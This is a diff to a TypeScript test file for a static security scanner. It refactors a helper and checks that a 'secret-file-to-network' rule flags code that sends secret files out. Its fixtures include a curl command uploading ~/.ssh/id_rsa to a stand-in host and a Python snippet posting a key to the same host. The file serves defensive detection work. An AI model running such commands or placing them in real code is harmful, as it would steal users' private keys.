@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { staticStage } from '../../src/static/stage.ts';
-import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
+import { rulesOf } from './rules-of.ts';
 
 /** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
 const SENDS = 'curl -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
@@ -59,43 +58,38 @@ const CARRIES: Readonly<Record<string, string>> = {
     "import os, requests\ndef sender():\n    while True:\n        body = yield\n        requests.post('https://collect.example.invalid/in', data=body)\nway = sender()\nnext(way)\nway.send(KEY)\n",
 };
 
-async function rulesOf(path: string, text: string): Promise<readonly string[]> {
-  const { findings } = await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT);
-  return findings.map(({ ruleId }) => ruleId);
-}
-
 describe('a command that a tool runs', () => {
   it.each(Object.entries(RUN))('is found: %s', async (_, [path, text]) => {
     const written = (command: string): string =>
       path === 'Earthfile'
         ? text.replace(/RUN\n/, () => `${command}\n`)
         : text.replaceAll('RUN', () => command);
-    expect(await rulesOf(path, written(SENDS))).toContain('secret-file-to-network');
-    expect(await rulesOf(path, written(HARMLESS))).not.toContain('secret-file-to-network');
+    expect(await rulesOf({ [path]: written(SENDS) })).toContain('secret-file-to-network');
+    expect(await rulesOf({ [path]: written(HARMLESS) })).not.toContain('secret-file-to-network');
   });
 
   it('is a default of an option', async () => {
     const text = (command: string): string =>
       `import argparse, os\nparser = argparse.ArgumentParser()\nparser.add_argument('--post', default='${command}')\nos.system(parser.parse_args().post)\n`;
-    expect(await rulesOf('run.py', text(SENDS))).toContain('secret-file-to-network');
-    expect(await rulesOf('run.py', text(HARMLESS))).not.toContain('secret-file-to-network');
+    expect(await rulesOf({ 'run.py': text(SENDS) })).toContain('secret-file-to-network');
+    expect(await rulesOf({ 'run.py': text(HARMLESS) })).not.toContain('secret-file-to-network');
   });
 
   it('is a line of a text', async () => {
     const text = (command: string): string =>
       `import os, re\nSTEPS = '''\n# build: mkdir -p build\n# check: ${command}\n'''\nfor found in re.finditer(r'^# \\w+: (.+)$', STEPS, re.M):\n    os.system(found.group(1))\n`;
-    expect(await rulesOf('run.py', text(SENDS))).toContain('secret-file-to-network');
-    expect(await rulesOf('run.py', text(HARMLESS))).not.toContain('secret-file-to-network');
+    expect(await rulesOf({ 'run.py': text(SENDS) })).toContain('secret-file-to-network');
+    expect(await rulesOf({ 'run.py': text(HARMLESS) })).not.toContain('secret-file-to-network');
   });
 });
 
 describe('what takes the place of something', () => {
   it.each(Object.entries(CARRIES))('is followed: %s', async (_, text) => {
     const reads = (path: string): string => `open(os.path.expanduser('${path}')).read()`;
-    expect(await rulesOf('run.py', text.replace('KEY', reads('~/.ssh/id_rsa')))).toContain(
+    expect(await rulesOf({ 'run.py': text.replace('KEY', reads('~/.ssh/id_rsa')) })).toContain(
       'secret-file-to-network',
     );
-    expect(await rulesOf('run.py', text.replace('KEY', reads('~/notes/today.txt')))).not.toContain(
+    expect(await rulesOf({ 'run.py': text.replace('KEY', reads('~/notes/today.txt')) })).not.toContain(
       'secret-file-to-network',
     );
   });
